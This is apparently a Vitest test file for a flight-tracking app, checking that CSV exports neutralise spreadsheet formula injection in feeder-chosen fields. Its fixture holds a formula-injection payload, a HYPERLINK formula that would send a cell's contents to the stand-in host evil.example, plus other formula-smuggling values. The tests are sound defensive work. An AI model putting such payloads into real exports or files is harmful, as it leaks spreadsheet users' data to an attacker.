// CSV exports neutralise cells a spreadsheet would run as formulas (issue 13 #15): callsigns and
// registrations are chosen by feeders.
import { describe, expect, it } from 'vitest';
import type { HistoryFlight } from '@skytrace/contracts';
import { csvCell, toFlightNumberCsv } from './playback.export';

const flight: HistoryFlight = {
  flightId: 7,
  dynamicId: 'MU5101-20260101',
  date: '20260101',
  icaoId: '780a5c',
  fnum: 'MU5101',
  callsign: '=HYPERLINK("http://evil.example/?"&A1,"Click")',
  anum: '@SUM(1+1)',
  aircraftType: '+A320',
  org: null,
  dst: null,
  STD: null,
  STA: null,
  ATD: null,
  ATA: null,
  firstSeen: 0,
  lastSeen: 0,
};

describe('CSV exports', () => {
  it('prefixes text cells starting with = + - @ tab or CR with a single quote', () => {
    expect(csvCell('=1+1')).toBe("'=1+1");
    expect(csvCell('+86')).toBe("'+86");
    expect(csvCell('-2')).toBe("'-2");
    expect(csvCell('@x')).toBe("'@x");
    expect(csvCell('\tx')).toBe("'\tx");
    expect(csvCell('\rx')).toBe('"\'\rx"');
    expect(csvCell('CES5101')).toBe('CES5101');
    // Numbers stay numbers: a negative longitude is no formula.
    expect(csvCell(-6.25)).toBe('-6.25');
  });

  it('writes a feeder-chosen formula callsign as text', () => {
    const text = toFlightNumberCsv('MU5101', [flight]).body;
    const row = text.split('\r\n')[1] ?? '';
    expect(row).toContain(`"'=HYPERLINK(""http://evil.example/?""&A1,""Click"")"`);
    expect(row).toContain(",'@SUM(1+1),");
    expect(row).toContain(",'+A320,");
    expect(row).not.toMatch(/(^|,)[=+@]/);
  });
});
